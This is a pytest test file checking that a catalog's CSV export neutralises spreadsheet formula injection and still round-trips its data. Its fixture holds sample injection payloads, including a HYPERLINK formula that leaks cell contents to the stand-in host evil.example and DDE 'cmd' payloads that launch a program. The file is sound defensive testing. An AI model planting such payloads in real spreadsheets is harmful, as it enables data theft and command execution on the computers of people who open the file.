"""CSV exports neutralise spreadsheet formulas (OWASP CSV injection) and still round-trip."""

from __future__ import annotations

import csv
import io

import pytest
from pandas.testing import assert_frame_equal

from catalog.export import neutralise_formula, read_csv_table, to_csv, write_atomic
from catalog.frames import FRAMES, TABLES
from catalog.load import load_catalog

# Text fields a contributor controls, each starting with a character a spreadsheet would run.
HOSTILE = """\
- id: hostile
  title: '=HYPERLINK("http://evil.example/?leak="&A1, "click")'
  year: 2020
  venue: '+cmd|" /C calc"!A0'
  models:
    - {id: hostile-m, name: '@SUM(1+1)*cmd|" /C calc"!A0', backbone: "-2+3"}
  results:
    - {model: hostile-m, dataset: camvid, split: test, value: 60.5, sources: [{ref: paper, where: "\\tTable 1"}], note: "\\r=1+1"}
  efficiency:
    - {model: hostile-m, quantity: params, value: 1.5, unit: M, sources: [{ref: paper, where: "'quoted already"}], note: "＝1+1"}
"""


@pytest.fixture
def cat(write):
    return load_catalog(write(HOSTILE))


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_cells_get_an_apostrophe(cat):
    [paper] = _cells(to_csv(FRAMES["papers"](cat)))
    assert paper["title"] == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"click\")"
    assert paper["venue"] == "'+cmd|\" /C calc\"!A0"
    [result] = _cells(to_csv(FRAMES["results"](cat)))
    assert result["model_name"] == "'@SUM(1+1)*cmd|\" /C calc\"!A0"
    assert result["backbone"] == "'-2+3"
    assert result["note"] == "'=1+1"  # the schema strips the leading CR
    [eff] = _cells(to_csv(FRAMES["efficiency"](cat)))
    assert eff["note"] == "'＝1+1"  # full-width equals sign


def test_numbers_are_untouched(cat):
    [result] = _cells(to_csv(FRAMES["results"](cat)))
    assert result["value"] == "60.5" and result["year"] == "2020"
    [eff] = _cells(to_csv(FRAMES["efficiency"](cat)))
    assert (eff["value"], eff["base_value"]) == ("1.5", "1500000.0")


@pytest.mark.parametrize("table", list(TABLES))
def test_neutralised_csv_round_trips(cat, table, tmp_path):
    df = FRAMES[table](cat)
    write_atomic(tmp_path / "t.csv", to_csv(df))
    assert_frame_equal(read_csv_table(tmp_path / "t.csv", table), df)


@pytest.mark.parametrize("cell,out", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("'=x", "''=x"), ("'", "''"), ("plain", "plain"), ("a=b", "a=b"), ("", ""),
])
def test_neutralise_formula(cell, out):
    assert neutralise_formula(cell) == out
